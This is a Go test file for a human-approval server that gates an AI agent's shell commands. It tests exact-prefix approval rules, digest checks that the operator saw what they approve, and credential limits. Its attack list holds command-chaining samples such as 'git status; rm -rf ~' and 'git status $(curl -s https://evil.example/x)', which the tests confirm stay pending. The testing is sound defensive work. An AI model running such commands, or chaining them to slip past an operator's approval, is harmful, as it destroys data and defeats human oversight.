package serve

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/wardenhq/warden/internal/serveclient"
	"github.com/wardenhq/warden/internal/store"
)

// shellRequest is a pending approval of the bash command cmd in run.
func shellRequest(run, cmd string, extra string) store.Request {
	args, _ := json.Marshal(map[string]string{"cmd": cmd})
	if extra != "" {
		args = []byte(strings.TrimSuffix(string(args), "}") + "," + extra + "}")
	}
	return store.Request{Kind: store.KindApproval, RunID: run, Agent: "main",
		Call:    store.Call{ID: "c", Function: "bash", Arguments: args},
		Choices: []string{"approve", "modify", "reject", "terminate"}}
}

// submitAs submits r through c and returns it as the server answered.
func submitAs(t *testing.T, c *serveclient.Client, r store.Request) store.Request {
	t.Helper()
	if err := c.Submit(context.Background(), &r); err != nil {
		t.Fatalf("submitting %s: %v", r.Call.Arguments, err)
	}
	return r
}

// Attack (issue 21 item 4): an operator approved `git status` and allowed
// its exact prefix for the run. The run's later calls that start with it
// and do nothing else are approved in the operator's name (decided_by
// alice, via rule); every other call — another program after it, a
// substitution, a redirection to a new file, a pipeline, other arguments
// to the tool, another run — stays pending in the store for a person.
func TestS4_PrefixRuleAllowsOnlyItsPrefixForThisRun(t *testing.T) {
	ts := startServer(t, "")
	ts.RunToken, ts.Operator = runToken, "alice"
	ctx := context.Background()
	run := &serveclient.Client{URL: ts.URL, Token: runToken}
	other := &serveclient.Client{URL: ts.URL, Token: runToken}

	earlier := submitAs(t, run, shellRequest("run-a", "git status -uno", ""))
	first := submitAs(t, run, shellRequest("run-a", "git status", ""))
	notOffered := submitAs(t, run, shellRequest("run-a", "git log -n 3", ""))
	for _, tc := range []struct{ name, id, body string }{
		{"a prefix of another call", notOffered.ID, `{"decision":"approve","allow_prefix":["git","status"]}`},
		{"a bare program", notOffered.ID, `{"decision":"approve","allow_prefix":["git"]}`},
		{"more words than the call", first.ID, `{"decision":"approve","allow_prefix":["git","status","-s"]}`},
		{"with reject", first.ID, `{"decision":"reject","allow_prefix":["git","status"]}`},
		{"empty", first.ID, `{"decision":"approve","allow_prefix":[]}`},
	} {
		if code, body, _ := call(t, "POST", ts.URL+"/api/requests/"+tc.id+"/decision", tc.body, nil); code != http.StatusBadRequest {
			t.Errorf("%s: %d %s, want 400", tc.name, code, body)
		}
	}
	if code, _, _ := call(t, "POST", ts.URL+"/api/requests/"+first.ID+"/decision", `{"decision":"approve","allow_prefix":["git","status"]}`,
		http.Header{"Authorization": {"Bearer " + runToken}}); code != http.StatusForbidden {
		t.Errorf("the run credential allowed a prefix: %d, want 403", code)
	}
	for _, id := range []string{first.ID, notOffered.ID} {
		if got, _ := ts.Store.Request(ctx, id); got.Status != store.StatusPending {
			t.Fatalf("after refused attempts request %s is %s, want pending", id, got.Status)
		}
	}
	if rs, _ := ts.Store.RunRules(ctx, "run-a"); len(rs) != 0 {
		t.Fatalf("refused attempts stored rules: %+v", rs)
	}

	code, body, _ := call(t, "POST", ts.URL+"/api/requests/"+first.ID+"/decision", `{"decision":"approve","explanation":"read-only","allow_prefix":["git","status"]}`, nil)
	var granted struct {
		store.Request
		Rule *store.RunRule `json:"rule"`
	}
	decode(t, body, &granted)
	if code != http.StatusOK || granted.Decision != "approve" || granted.DecidedBy != "alice" || granted.Rule == nil ||
		strings.Join(granted.Rule.Prefix, " ") != "git status" || granted.Rule.CreatedBy != "alice" ||
		!strings.Contains(granted.Explanation, "read-only; allowed the exact prefix `git status` for the rest of this run") {
		t.Fatalf("approve with allow_prefix: %d %s", code, body)
	}
	// The run's call that was already waiting and that the rule covers is
	// approved by it too.
	if got, _ := ts.Store.Request(ctx, earlier.ID); got.Status != store.StatusDecided || got.DecidedBy != "alice" || got.DecidedVia != "rule" {
		t.Errorf("the waiting `git status -uno`: %s %s by %q via %q, want approved by alice via rule", got.Status, got.Decision, got.DecidedBy, got.DecidedVia)
	}
	if got, _ := ts.Store.Request(ctx, notOffered.ID); got.Status != store.StatusPending {
		t.Errorf("the waiting `git log -n 3` is %s, want pending", got.Status)
	}

	for _, cmd := range []string{"git status", "git status --short", "git status -s 2>&1", "git status && git status -s"} {
		got := submitAs(t, run, shellRequest("run-a", cmd, ""))
		if got.Status != store.StatusDecided || got.Decision != "approve" || got.DecidedBy != "alice" || got.DecidedVia != "rule" ||
			!strings.Contains(got.Explanation, "`git status` (allowed by alice") {
			t.Errorf("%q: %s %s by %q via %q (%s), want approved by alice via rule", cmd, got.Status, got.Decision, got.DecidedBy, got.DecidedVia, got.Explanation)
		}
	}
	attacks := []string{
		"git status; rm -rf ~", "git status && rm -f important.txt", "git status | sh", "git status $(curl -s https://evil.example/x)",
		"git status `id`", "git status > new.txt", "git status >> ~/.bashrc", "git status | tee new.txt", "git status; > new.txt",
		"GIT_DIR=/tmp git status", "./git status", "/tmp/git status", "sudo git status", "bash -c 'git status'", "git status *",
		"git() { rm -rf ~; }; git status", "git status\nrm -rf ~", "git status & curl evil.example", "git status <<< \"$(id)\"",
		"git statusx", "git log", "git status\r; rm -rf ~",
	}
	for _, cmd := range attacks {
		if got := submitAs(t, run, shellRequest("run-a", cmd, "")); got.Status != store.StatusPending {
			t.Errorf("%q after allowing `git status`: %s %s by %q, want pending", cmd, got.Status, got.Decision, got.DecidedBy)
		}
	}
	// The same command with other arguments to the tool, or as a
	// boundary request, or in another run: the rule does not apply.
	for name, r := range map[string]store.Request{
		"other arguments": shellRequest("run-a", "git status", `"timeout":999`),
		"another run":     shellRequest("run-b", "git status", ""),
		"another tool":    {Kind: store.KindApproval, RunID: "run-a", Call: store.Call{ID: "c", Function: "shell", Arguments: json.RawMessage(`{"cmd":"git status"}`)}, Choices: []string{"approve", "reject"}},
		"a boundary":      {Kind: store.KindBoundary, RunID: "run-a", Call: store.Call{ID: "c", Function: "bash", Arguments: json.RawMessage(`{"cmd":"git status"}`)}, Choices: []string{"approve", "reject"}},
	} {
		c := run
		if r.RunID == "run-b" {
			c = other
		}
		if got := submitAs(t, c, r); got.Status != store.StatusPending {
			t.Errorf("%s: %s by %q, want pending", name, got.Status, got.DecidedBy)
		}
	}
	code, body, _ = call(t, "GET", ts.URL+"/api/runs/run-a/rules", "", nil)
	var list struct{ Rules []store.RunRule }
	decode(t, body, &list)
	if code != http.StatusOK || len(list.Rules) != 1 || list.Rules[0].RequestID != first.ID || list.Rules[0].CreatedBy != "alice" {
		t.Errorf("GET /api/runs/run-a/rules: %d %s", code, body)
	}
	if code, _, _ := call(t, "GET", ts.URL+"/api/runs/run-a/rules", "", http.Header{"Authorization": {"Bearer " + runToken}}); code != http.StatusForbidden {
		t.Errorf("the run credential read the rules: %d, want 403", code)
	}
}

var seenField = regexp.MustCompile(`name="seen" value="([^"]*)" data-seen="([^"]*)"`)

// seenOf returns the seen field of the card of request id on the queue
// page: its value and the digest it takes once the card is whole.
func seenOf(t *testing.T, page, id string) (value, digest string) {
	t.Helper()
	i := strings.Index(page, `id="req-`+id+`"`)
	if i < 0 {
		t.Fatalf("no card for %s", id)
	}
	m := seenField.FindStringSubmatch(page[i:])
	if m == nil {
		t.Fatalf("the card of %s has no seen field", id)
	}
	return m[1], m[2]
}

// The server, not only the browser, approves only what was shown whole
// (issue 21 item 3): a panel approval carries the digest of the request
// its card showed whole — a long call's card has it only once expanded —
// and one without it, or with another request's, decides nothing. The
// API checks a digest when one is sent.
func TestS4_ServerApprovesOnlyWhatWasSeen(t *testing.T) {
	env := newPanelEnv(t)
	ctx := context.Background()
	short := submitPending(t, env.st, shellRequest("run-a", "ls -l", ""))
	long := submitPending(t, env.st, shellRequest("run-a", strings.Repeat("echo line\n", 30)+"rm -rf ~/project", ""))
	b := newBrowser(t, env.url)
	csrf := b.login()
	_, page := b.do("GET", "/", nil)
	shortValue, shortDigest := seenOf(t, page, short.ID)
	if shortValue == "" || shortValue != shortDigest || shortValue != seenDigest(short) {
		t.Fatalf("the short card's seen field: %q / %q, want the request's digest", shortValue, shortDigest)
	}
	longValue, longDigest := seenOf(t, page, long.ID)
	if longValue != "" || longDigest != seenDigest(long) {
		t.Fatalf("the long card's seen field: %q / %q, want empty until expanded", longValue, longDigest)
	}
	for _, tc := range []struct {
		name, id, seen string
	}{
		{"no digest", short.ID, ""},
		{"the long card as sent", long.ID, longValue},
		{"another request's digest", long.ID, shortDigest},
		{"a digest of other arguments", short.ID, seenDigest(shellRequest("run-a", "ls", ""))},
	} {
		resp, body := b.do("POST", "/requests/"+tc.id+"/decide", url.Values{"decision": {"approve"}, "csrf": {csrf}, "seen": {tc.seen}})
		if resp.StatusCode != http.StatusConflict || !strings.Contains(body, "shown you whole") {
			t.Errorf("%s: %d, want 409 saying to approve only what was shown whole", tc.name, resp.StatusCode)
		}
	}
	for _, id := range []string{short.ID, long.ID} {
		if got, _ := env.st.Request(ctx, id); got.Status != store.StatusPending {
			t.Fatalf("request %s is %s after refused approvals, want pending", id, got.Status)
		}
	}
	// Rejecting needs no digest: refusing the unseen is safe.
	if resp, _ := b.do("POST", "/requests/"+long.ID+"/decide", url.Values{"decision": {"reject"}, "csrf": {csrf}}); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("reject: %d, want 303", resp.StatusCode)
	}
	if resp, _ := b.do("POST", "/requests/"+short.ID+"/decide", url.Values{"decision": {"approve"}, "csrf": {csrf}, "seen": {shortValue}}); resp.StatusCode != http.StatusSeeOther {
		t.Errorf("approve with the digest: %d, want 303", resp.StatusCode)
	}
	if got, _ := env.st.Request(ctx, short.ID); got.Decision != "approve" {
		t.Errorf("the short call: %s %s, want approved", got.Status, got.Decision)
	}
	// The API: a digest, when sent, must be the request's, computed as
	// docs/control-plane.md says from the request the API returns.
	apiReq := submitPending(t, env.st, shellRequest("run-a", "make test", ""))
	_, raw, _ := call(t, "GET", env.url+"/api/requests/"+apiReq.ID, "", http.Header{"Authorization": {"Bearer " + panelToken}})
	var asRead struct {
		Kind, Result string
		Call         struct {
			Function  string
			Arguments json.RawMessage
		}
	}
	decode(t, raw, &asRead)
	h256 := sha256.New()
	for _, part := range []string{asRead.Kind, asRead.Call.Function, string(asRead.Call.Arguments), asRead.Result} {
		fmt.Fprintf(h256, "%d:%s", len(part), part)
	}
	if documented := "sha256:" + hex.EncodeToString(h256.Sum(nil)); documented != seenDigest(apiReq) {
		t.Errorf("the documented digest %s is not the server's %s", documented, seenDigest(apiReq))
	}
	h := http.Header{"Authorization": {"Bearer " + panelToken}}
	if code, body, _ := call(t, "POST", env.url+"/api/requests/"+apiReq.ID+"/decision", `{"decision":"approve","seen":"`+shortDigest+`"}`, h); code != http.StatusConflict {
		t.Errorf("API approve with another digest: %d %s, want 409", code, body)
	}
	if code, body, _ := call(t, "POST", env.url+"/api/requests/"+apiReq.ID+"/decision", `{"decision":"approve","seen":"`+seenDigest(apiReq)+`"}`, h); code != http.StatusOK {
		t.Errorf("API approve with its digest: %d %s, want 200", code, body)
	}
}

// The card offers "allow this exact prefix for this run" on a plain shell
// command; choosing it approves the call, tells the person what now runs
// without asking, and the run's page lists the rule with who allowed it.
// The header names who is logged in.
func TestS4_PanelAllowsAPrefixForThisRun(t *testing.T) {
	env := newPanelEnv(t)
	env.srv.Operator, env.srv.RunToken = "alice", runToken
	ctx := context.Background()
	seedRun(t, env.st, "run-a", "tidy the repo", "running")
	run := &serveclient.Client{URL: env.url, Token: runToken}
	req := submitAs(t, run, shellRequest("run-a", "git status --short", ""))
	script := submitAs(t, run, shellRequest("run-a", "git status; rm -rf build", ""))
	// A run that queues in the store directly (warden run --db) is not
	// offered a rule: none of its later calls would come through here.
	direct := submitPending(t, env.st, shellRequest("run-d", "git status --short", ""))
	b := newBrowser(t, env.url)
	csrf := b.login()
	_, page := b.do("GET", "/", nil)
	if !strings.Contains(page, `logged in as <strong>alice</strong>`) {
		t.Error("the header does not say alice is logged in")
	}
	card := page[strings.Index(page, `id="req-`+req.ID+`"`):]
	card = card[:strings.Index(card, "</article>")]
	opts := regexp.MustCompile(`<option value="([^"]*)">([^<]*)</option>`).FindAllStringSubmatch(card, -1)
	if len(opts) != 2 || htmlUnescape(opts[0][1]) != `["git","status","--short"]` || opts[1][2] != "git status" || !strings.Contains(card, `value="approve-prefix"`) {
		t.Fatalf("the card's prefixes: %q", opts)
	}
	for name, id := range map[string]string{"a script of two commands": script.ID, "a run that queues in the store": direct.ID} {
		other := page[strings.Index(page, `id="req-`+id+`"`):]
		if other = other[:strings.Index(other, "</article>")]; strings.Contains(other, "approve-prefix") {
			t.Errorf("%s is offered a prefix", name)
		}
	}
	if code, body, _ := call(t, "POST", env.url+"/api/requests/"+direct.ID+"/decision", `{"decision":"approve","allow_prefix":["git","status"]}`,
		http.Header{"Authorization": {"Bearer " + panelToken}}); code != http.StatusBadRequest || !strings.Contains(string(body), "does not reach this server through its API") {
		t.Errorf("a rule for a run that queues in the store: %d %s, want 400", code, body)
	}
	seen, _ := seenOf(t, page, req.ID)
	resp, _ := b.do("POST", "/requests/"+req.ID+"/decide", url.Values{"decision": {"approve-prefix"}, "allow_prefix": {`["git","status"]`}, "csrf": {csrf}, "seen": {seen}})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("approve-prefix: %d, want 303", resp.StatusCode)
	}
	_, page = b.do("GET", resp.Header.Get("Location"), nil)
	if !strings.Contains(page, "start with `git status` are approved in your name without asking") {
		t.Error("the queue does not say what now runs without asking")
	}
	if got, _ := env.st.Request(ctx, req.ID); got.Decision != "approve" || got.DecidedBy != "alice" || !strings.Contains(got.Explanation, "allowed the exact prefix `git status`") {
		t.Errorf("the request: %s by %s (%s)", got.Decision, got.DecidedBy, got.Explanation)
	}
	if got, _ := env.st.Request(ctx, script.ID); got.Status != store.StatusPending {
		t.Errorf("`git status; rm -rf build` is %s after the rule, want pending", got.Status)
	}
	_, page = b.do("GET", "/runs/run-a", nil)
	if !regexp.MustCompile(`Rules for this run.*calls of <code>bash</code> that start with exactly <code class="rule-prefix">git status</code>.*allowed by <span class="decided-by">alice</span>`).MatchString(strings.ReplaceAll(page, "\n", " ")) {
		t.Error("the run's page does not list the rule with who allowed it")
	}
}

// GET /api/requests/{id} answers the request's context (migration 0003)
// under "context", to the operator and to the run that asked.
func TestS4_GetRequestHasItsContext(t *testing.T) {
	ts := startServer(t, "")
	ts.RunToken = runToken
	run := &serveclient.Client{URL: ts.URL, Token: runToken}
	r := shellRequest("run-a", "make test", "")
	r.Context = &store.RequestContext{Host: "build-7", Sandbox: "workspace-write", Reason: "the first pass asks", Turns: []store.Turn{{Role: "user", Text: "run the tests"}}}
	r = submitAs(t, run, r)
	for name, h := range map[string]http.Header{"operator": nil, "run": {"Authorization": {"Bearer " + runToken}, "X-Warden-Client": {""}}} {
		var got store.Request
		if name == "run" {
			var err error
			if got, err = run.Request(context.Background(), r.ID); err != nil {
				t.Fatal(err)
			}
		} else {
			code, body, _ := call(t, "GET", ts.URL+"/api/requests/"+r.ID, "", h)
			if code != http.StatusOK {
				t.Fatalf("GET: %d %s", code, body)
			}
			decode(t, body, &got)
		}
		if c := got.Context; c == nil || c.Host != "build-7" || c.Sandbox != "workspace-write" || c.Reason != "the first pass asks" || len(c.Turns) != 1 {
			t.Errorf("%s: the request's context: %+v", name, got.Context)
		}
	}
}

// Whatever a call's arguments, shellCallOf never panics, and a shell call
// it reads has its script from one argument and the others, canonical,
// in rest: the same arguments in another order or spacing give the same
// rest, so a rule's match does not hang on how the model wrote them.
func FuzzShellCallOf(f *testing.F) {
	for _, s := range []string{`{"cmd":"git status"}`, `{"cmd":"ls","timeout":5}`, `{"timeout":5.0,"cmd":"ls"}`, `{"command":"x","cmd":"y"}`,
		`{"cmd":"a","cmd":"b"}`, `{"cmd":1}`, `{"Cmd":"x","cmd":"y"}`, `[]`, `{"script":"ls","env":{"B":1,"A":[1,2]}}`, `{}`} {
		f.Add("bash", s)
	}
	f.Fuzz(func(t *testing.T, function, args string) {
		sc, ok := shellCallOf(store.Call{Function: function, Arguments: json.RawMessage(args)})
		if !ok {
			return
		}
		var m map[string]json.RawMessage
		if err := json.Unmarshal([]byte(args), &m); err != nil {
			t.Fatalf("%s read as a shell call but is not an object: %v", args, err)
		}
		var script string
		if json.Unmarshal(m[sc.arg], &script) != nil || script != sc.script {
			t.Fatalf("%s: script %q from %q, want the argument's string", args, sc.script, sc.arg)
		}
		var rest map[string]json.RawMessage
		if err := json.Unmarshal(sc.rest, &rest); err != nil || len(rest) != len(m)-1 || rest[sc.arg] != nil {
			t.Fatalf("%s: rest %s is not the other arguments (%v)", args, sc.rest, err)
		}
		// The same object re-encoded (keys sorted, no space) gives the same rest.
		re, _ := json.Marshal(m)
		if again, ok := shellCallOf(store.Call{Function: function, Arguments: re}); !ok || string(again.rest) != string(sc.rest) {
			t.Fatalf("%s re-encoded as %s: rest %s, want %s", args, re, again.rest, sc.rest)
		}
	})
}
